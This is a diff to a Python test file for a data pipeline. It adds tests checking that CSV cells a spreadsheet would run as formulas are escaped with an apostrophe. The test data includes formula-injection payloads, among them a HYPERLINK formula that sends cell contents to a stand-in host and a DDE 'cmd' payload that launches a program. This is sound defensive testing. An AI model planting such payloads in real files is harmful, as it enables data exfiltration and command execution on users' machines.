@@ -1,6 +1,8 @@
 """Table building and writing: schemas, CSV format, determinism, atomic writes, data dictionary."""
 from __future__ import annotations
 
+import csv
+import io
 from datetime import date, datetime
 from pathlib import Path
 from zoneinfo import ZoneInfo
@@ -9,7 +11,7 @@ import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 
-from pipeline import dictionary, schema, tables
+from pipeline import dictionary, outputs, schema, tables
 from pipeline.record import (Article, DateRef, Event, Evidence, Mention, Meta, Page, Participant, Problem,
                              Removed)
 from pipeline.tables import InputStatus
@@ -90,6 +92,33 @@ def test_csv_uses_iso_dates_and_empty_cells_for_missing_values():
     assert tables.csv_bytes(build()["articles"], bom=True).startswith("\ufeff".encode())
 
 
+FORMULAS = ['=HYPERLINK("http://x.example/?q="&A1,"klik")', "=cmd|' /C calc'!A0", "+62 812", "@SUM(A1:A9)",
+            "-- Iklan --", "\tTab", "\rCR"]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(tmp_path):
+    problems = [Problem(f"{n}.txt", "ingest", "empty", text) for n, text in enumerate(FORMULAS)]
+    problems.append(Problem("ok.txt", "ingest", "empty", "a = b, -1 and @x inside a cell stay as they are"))
+    built = tables.build_tables([], problems, [])
+    tables.write_tables(built, tmp_path)
+    rows = list(csv.DictReader(io.StringIO((tmp_path / "errors.csv").read_bytes().decode("utf-8"), newline="")))
+    assert [row["message"] for row in rows] == ["'" + text for text in FORMULAS] + [problems[-1].message]
+    assert pq.read_table(tmp_path / "errors.parquet")["message"].to_pylist() == [p.message for p in problems]
+
+
+def test_numbers_are_never_given_an_apostrophe():
+    table = pa.table({"text": ["-5", None], "n": pa.array([-5, 3], pa.int32()), "x": pa.array([-0.5, 1.0])})
+    assert tables.csv_bytes(table).decode() == "text,n,x\n'-5,-5,-0.5\n,3,1\n"
+
+
+def test_a_carriage_return_inside_a_cell_never_splits_its_row():
+    inputs = [InputStatus("odd\rname.txt", "error"), InputStatus("\r", "error"), InputStatus("plain.txt", "error")]
+    text = tables.csv_bytes(tables.build_tables([], [], inputs)["inputs"]).decode("utf-8")
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert [row[0] for row in rows] == ["source_path", "'\r", "odd\rname.txt", "plain.txt"]
+    assert text.endswith("\n") and "\r\n" not in text
+
+
 def test_write_tables_round_trips_through_parquet(tmp_path):
     built = build()
     tables.write_tables(built, tmp_path)
@@ -113,7 +142,7 @@ def test_a_failed_write_leaves_the_previous_file_intact(tmp_path, monkeypatch):
     def disk_full(*args, **kwargs):
         raise OSError(28, "No space left on device")
 
-    monkeypatch.setattr(tables.os, "fsync", disk_full)
+    monkeypatch.setattr(outputs.os, "fsync", disk_full)
     with pytest.raises(OSError):
         tables.write_atomically(target, b"new content")
     assert target.read_bytes() == b"previous"
